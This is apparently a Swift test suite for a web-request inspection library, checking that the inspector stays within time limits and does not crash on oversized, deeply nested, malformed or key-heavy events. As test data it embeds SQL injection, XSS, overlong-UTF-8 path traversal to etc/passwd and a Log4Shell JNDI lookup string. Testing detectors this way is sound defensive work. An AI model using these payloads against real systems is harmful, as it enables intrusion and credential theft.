import Foundation
import GuardInspect
import Testing

/// Hostile events: no crash, bounded time, and a finding or a clear error.
@Suite struct HostileInputTests {
    /// Seconds. Not a speed check (that is Benchmarks/inspect): a quadratic or exponential
    /// blow-up on these inputs takes minutes; a debug build on a loaded two-core CI machine
    /// once took 2.01 s on the 6 MB event, so the bound leaves room.
    static let bound = 15.0

    static func timed(_ body: () -> InspectionResult) -> (InspectionResult, Double) {
        let start = Date()
        let r = body()
        return (r, Date().timeIntervalSince(start))
    }

    @Test func sixMegabyteEvent() {
        let filler = String(repeating: "lorem ipsum dolor sit amet ", count: 6 * 1024 * 1024 / 27)
        let event = "{\"body\":\"\(filler) ' union select password from users--\",\"isBase64Encoded\":false}"
        #expect(event.utf8.count > 6_000_000)
        let (r, t) = Self.timed { Inspector().inspect(event: Array(event.utf8)) }
        #expect(t < Self.bound)
        #expect(r.isBlocking || r.error != nil)
    }

    @Test func tenThousandLevelsOfNesting() {
        let event =
            String(repeating: "[", count: 10_000) + "\"<script>alert(1)</script>\""
            + String(repeating: "]", count: 10_000)
        let (r, t) = Self.timed { Inspector().inspect(event: Array(event.utf8)) }
        #expect(t < Self.bound)
        #expect(r.error?.contains("nested deeper") == true)
        #expect(r.findings.contains { $0.detectorClass == .xss })
        let objects = String(repeating: "{\"a\":", count: 10_000) + "1" + String(repeating: "}", count: 10_000)
        let (r2, t2) = Self.timed { Inspector().inspect(event: Array(objects.utf8)) }
        #expect(t2 < Self.bound)
        #expect(r2.error != nil)
    }

    @Test func invalidUTF8AndNULs() {
        var event = Array("{\"queryStringParameters\":{\"q\":\"".utf8)
        event += [0xFF, 0xFE, 0xC0, 0xAE, 0xC0, 0xAE, 0x2F, 0xC0, 0xAE, 0xC0, 0xAE, 0x2F] + Array("etc/passwd".utf8)
        event += [0x00, 0x00, 0x80, 0xBF] + Array("\"}}".utf8)
        let (r, t) = Self.timed { Inspector().inspect(event: event) }
        #expect(t < Self.bound)
        #expect(r.findings.contains { $0.detectorClass == .traversal })
        for f in r.findings { #expect(f.evidence.count <= 80) }
        // Raw bytes that are not JSON at all.
        let junk = (0..<100_000).map { UInt8(truncatingIfNeeded: $0 &* 2_654_435_761 >> 7) }
        let (r2, t2) = Self.timed { Inspector().inspect(event: junk) }
        #expect(t2 < Self.bound)
        _ = r2
    }

    @Test func aMillionTinyKeys() {
        var s = "{"
        s.reserveCapacity(9_000_000)
        for i in 0..<1_000_000 { s += "\"k\(i)\":\(i & 1)," }
        s += "\"last\":\"${jndi:ldap://x/a}\"}"
        let (r, t) = Self.timed { Inspector().inspect(event: Array(s.utf8)) }
        #expect(t < Self.bound)
        #expect(r.isBlocking || r.error != nil)
        #expect(r.error != nil)
    }

    @Test func manyFindingsAreCapped() {
        let values = (0..<1000).map { "\"v\($0)\":\"' or 1=1--\"" }.joined(separator: ",")
        let r = Inspector().inspect(event: Array("{\(values)}".utf8))
        #expect(r.findings.count <= InspectionLimits.default.maxFindings)
    }
}
